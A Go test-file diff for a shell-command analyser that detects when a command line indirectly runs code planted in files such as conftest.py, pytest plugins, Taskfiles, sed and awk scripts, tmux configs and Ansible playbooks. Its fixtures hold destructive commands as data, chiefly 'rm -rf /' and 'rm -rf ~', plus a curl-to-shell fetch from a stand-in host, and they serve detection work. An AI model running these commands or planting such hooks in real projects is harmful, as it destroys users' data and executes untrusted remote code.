@@ -42,6 +42,40 @@ func TestRunsEarlier(t *testing.T) {
 		"/p/tox.ini":                 {Text: "[tox]\nenvlist = py3\n[testenv]\ndeps = pytest\ncommands =\n    pytest -q\n    rm -rf ~\n", Whole: true},
 		"/p/Taskfile.yml":            {Text: "version: '3'\ntasks:\n  default:\n    cmds:\n      - echo hi\n      - rm -rf ~\n", Whole: true},
 		"/p/.pre-commit-config.yaml": {Text: "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: rm -rf ~\n    language: system\n", Whole: true},
+		// the long tail of runners (runners.go)
+		"/p/t/conftest.py":    {Text: "import os\nos.system('rm -rf /')\n", Whole: true},
+		"/p/plug.py":          {Text: "import os\nos.system('rm -rf ~/src')\n", Whole: true},
+		"/p/ci/pytest.ini":    {Text: "[pytest]\naddopts = -q -p ciplug\n", Whole: true},
+		"/p/ciplug.py":        {Text: "import os\nos.system('rm -rf ~/ci')\n", Whole: true},
+		"/p/root/conftest.py": {Text: "import os\nos.system('rm -rf ~/root')\n", Whole: true},
+		"/p/chk/*_check.py":   {Text: "import os\nos.system('rm -rf ~/chk')\n", Whole: true},
+		"/p/app/__main__.py":  {Text: "import os\nos.system('rm -rf ~/app')\n", Whole: true},
+		"/p/a.pyz":            {Text: "PK\x03\x04", Whole: true},
+		"/p/index.js":         {Text: "require('child_process').execSync('rm -rf ~/idx')\n", Whole: true},
+		"/p/srv/package.json": {Text: `{"main": "lib/m.js"}`, Whole: true},
+		"/p/srv/lib/m.js":     {Text: "require('child_process').execSync('rm -rf ~/srv')\n", Whole: true},
+		"/p/jc.js":            {Text: "require('child_process').execSync('rm -rf ~/jest')\n", Whole: true},
+		"/p/x.ts":             {Text: "import { execSync } from 'child_process'\nexecSync('rm -rf ~/ts')\n", Whole: true},
+		"/p/x.pl":             {Text: "system('rm -rf ~/pl');\n", Whole: true},
+		"/p/x.rb":             {Text: "system('rm -rf ~/rb')\n", Whole: true},
+		"/p/x.php":            {Text: "<?php system('rm -rf ~/php');\n", Whole: true},
+		"/p/x.lua":            {Text: "os.execute('rm -rf ~/lua')\n", Whole: true},
+		"/p/x.sed":            {Text: "1e rm -rf ~/sed\n", Whole: true},
+		"/p/ok.sed":           {Text: "s/a/b/g\n", Whole: true},
+		"/p/x.awk":            {Text: "BEGIN { system(\"rm -rf ~/awk\") }\n", Whole: true},
+		"/p/x.tcl":            {Text: "exec rm -rf ~/tcl\n", Whole: true},
+		"/p/x.R":              {Text: "system('rm -rf ~/r')\n", Whole: true},
+		"/p/b.ninja":          {Text: "rule r\n  command = rm -rf ~/ninja\nbuild o: r\n", Whole: true},
+		"/p/ci/tox.ini":       {Text: "[testenv]\ncommands =\n    rm -rf ~/tox\n", Whole: true},
+		"/p/t.yml":            {Text: "version: '3'\ntasks:\n  default:\n    cmds:\n      - rm -rf ~/task\n", Whole: true},
+		"/p/sub/Taskfile.yml": {Text: "version: '3'\ntasks:\n  default:\n    cmds:\n      - rm -rf ~/taskdir\n", Whole: true},
+		"/p/pc.yaml":          {Text: "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: rm -rf ~/pc\n    language: system\n", Whole: true},
+		"/p/Rakefile":         {Text: "task :default do\n  sh \"rm -rf ~/rake\"\nend\n", Whole: true},
+		"/p/r.rake":           {Text: "task :x do\n  sh('curl -s https://x.example/i | sh')\nend\n", Whole: true},
+		"/p/t.conf":           {Text: "set -g mouse on\nrun-shell 'rm -rf ~/tmux'\n", Whole: true},
+		"/p/s.rc":             {Text: "startup_message off\nscreen -t x rm -rf ~/screen\n", Whole: true},
+		"/p/play.yml":         {Text: "- hosts: localhost\n  tasks:\n    - name: x\n      ansible.builtin.shell: rm -rf ~/play\n    - command: echo hi\n", Whole: true},
+		"/p/ok.yml":           {Text: "- hosts: web\n  tasks:\n    - apt: name=nginx\n", Whole: true},
 	}
 	before := Before{Cwd: "/p", Written: func(p string) (EarlierFile, bool) {
 		f, ok := files[p]
@@ -145,6 +179,86 @@ func TestRunsEarlier(t *testing.T) {
 		{"task", "rm -rf ~"},
 		{"pre-commit run --all-files", "rm -rf ~"},
 		{"/usr/bin/python3 y.py", "shutil.rmtree(~)"},
+		// pytest's directories, plugins, configuration and rootdir; unittest's discovery
+		{"pytest t/", "rm -rf /"},
+		{"pytest t/test_a.py::test_b", "rm -rf /"},
+		{"pytest -p plug", "rm -rf ~/src"},
+		{"python3 -m pytest -pplug -q", "rm -rf ~/src"},
+		{"pytest -c ci/pytest.ini", "rm -rf ~/ci"},
+		{"pytest --rootdir=root", "rm -rf ~/root"},
+		{"python3 -m unittest discover -s chk -p '*_check.py'", "rm -rf ~/chk"},
+		{"python3 -m unittest discover chk '*_check.py'", "rm -rf ~/chk"},
+		{"python3 -m unittest evil", "rm -rf ~"},
+		// a directory or archive as the script, a module's code file by its path
+		{"python3 app", "rm -rf ~/app"},
+		{"python3 a.pyz", "dynamic"},
+		{"node .", "rm -rf ~/idx"},
+		{"node srv", "rm -rf ~/srv"},
+		{"node other", ""},
+		{`python3 -c 'import runpy; runpy.run_path("y.py")'`, "shutil.rmtree(~)"},
+		{`python3 -c 'exec(open("y.py").read())'`, "shutil.rmtree(~)"},
+		{`python3 -c 'print(open("y.py").read())'`, ""},
+		{`perl -e 'do "x.pl"'`, "rm -rf ~/pl"},
+		{`perl -e 'require "x.pl"'`, "rm -rf ~/pl"},
+		{`ruby -e 'load "x.rb"'`, "rm -rf ~/rb"},
+		{`ruby -e 'require_relative "x"'`, "rm -rf ~/rb"},
+		{`ruby -e 'require "json"'`, ""},
+		{`php -r 'include "x.php";'`, "rm -rf ~/php"},
+		{`lua -e 'dofile("x.lua")'`, "rm -rf ~/lua"},
+		// script runners for other languages
+		{"tsx x.ts", "rm -rf ~/ts"},
+		{"ts-node x.ts", "rm -rf ~/ts"},
+		{"tsx watch x.ts", "rm -rf ~/ts"},
+		{"bun run x.ts", "rm -rf ~/ts"},
+		{"bun x.ts", "rm -rf ~/ts"},
+		{"uv run y.py", "shutil.rmtree(~)"},
+		{"poetry run python y.py", "shutil.rmtree(~)"},
+		{"deno run e.js", "rm -rf ~"},
+		{"perl x.pl", "rm -rf ~/pl"},
+		{"lua x.lua", "rm -rf ~/lua"},
+		{"Rscript x.R", "rm -rf ~/r"},
+		{"tclsh x.tcl", "rm -rf ~/tcl"},
+		{"sed -f x.sed data.txt", "rm -rf ~/sed"},
+		{"sed -nf x.sed data.txt", "rm -rf ~/sed"},
+		{"sed --file=x.sed -i data.txt", "rm -rf ~/sed"},
+		{"sed -f ok.sed data.txt", ""},
+		{"sed -e 's/a/b/' x.sed", ""}, // x.sed is data here
+		{"awk -f x.awk data.txt", "rm -rf ~/awk"},
+		{"gawk -F, -f x.awk data.txt", "rm -rf ~/awk"},
+		{"awk '{print}' x.awk", ""},
+		// a script from a file descriptor
+		{"exec 3<x.sh; bash /dev/fd/3", "rm -rf ~"},
+		// build, test and task files given by an option
+		{"ninja -f b.ninja", "rm -rf ~/ninja"},
+		{"ninja -C out -f b.ninja", "rm -rf ~/ninja"},
+		{"ninja -f other.ninja", ""}, // not build.ninja either
+		{"tox -c ci", "rm -rf ~/tox"},
+		{"tox -c ci/tox.ini -e py3", "rm -rf ~/tox"},
+		{"task -t t.yml", "rm -rf ~/task"},
+		{"task --taskfile=t.yml build", "rm -rf ~/task"},
+		{"task -d sub", "rm -rf ~/taskdir"},
+		{"pre-commit run -c pc.yaml", "rm -rf ~/pc"},
+		{"pre-commit run --config pc.yaml --all-files", "rm -rf ~/pc"},
+		{"pre-commit validate-config pc.yaml", ""},
+		{"jest -c jc.js", "rm -rf ~/jest"},
+		{"npx jest --config jc.js", "rm -rf ~/jest"},
+		{"rake", "rm -rf ~/rake"},
+		{"rake -f r.rake x", "curl -s https://x.example/i | sh"},
+		// a terminal multiplexer's commands, a playbook's shell tasks
+		{"tmux source-file t.conf", "rm -rf ~/tmux"},
+		{"tmux -f t.conf new -s x", "rm -rf ~/tmux"},
+		{"screen -c s.rc", "rm -rf ~/screen"},
+		{"screen -X source s.rc", "rm -rf ~/screen"},
+		{"ansible-playbook -i hosts play.yml", "rm -rf ~/play"},
+		{"ansible-playbook ok.yml", ""},
+		// written on this line
+		{"echo '1e rm -rf /' > q.sed; sed -f q.sed data", "rm -rf /"},
+		{`echo 'BEGIN{system("rm -rf /")}' > q.awk; awk -f q.awk`, "rm -rf /"},
+		{"echo 'run-shell \"rm -rf /\"' > q.conf; tmux source-file q.conf", "rm -rf /"},
+		{`echo 'import os; os.system("rm -rf /")' > q.py; python3 -c 'exec(open("q.py").read())'`, "rm -rf /"},
+		{"TF=$(mktemp); echo 'exec rm -rf /' > $TF; tclsh $TF", "rm -rf /"},
+		{"TF=$(mktemp); echo '1e rm -rf /' > \"$TF\"; sed -f \"$TF\" x", "rm -rf /"},
+		{"echo 'rm -rf /' > n.sh; exec 3<n.sh; bash /dev/fd/3", "rm -rf /"},
 	} {
 		l := ParseShellAfter(tt.line, "bash", before)
 		var ran []string // what the script's text runs: commands, and inline code's shell-outs and destructive calls
@@ -157,11 +271,13 @@ func TestRunsEarlier(t *testing.T) {
 			}) {
 				continue
 			}
-			ran = append(ran, strings.TrimSpace(c.Name+" "+strings.Join(wordValues(c.Args), " ")))
 			if c.Payload != nil {
+				// code read from the file: what it runs and deletes
 				ran = append(ran, c.Payload.ShellOuts...)
 				ran = append(ran, c.Payload.Destructive...)
+				continue
 			}
+			ran = append(ran, strings.TrimSpace(c.Name+" "+strings.Join(wordValues(c.Args), " ")))
 		}
 		if tt.want == "" && len(ran) > 0 || tt.want != "" && !slices.Contains(ran, tt.want) {
 			t.Errorf("%q: ran %q, want %q", tt.line, ran, tt.want)
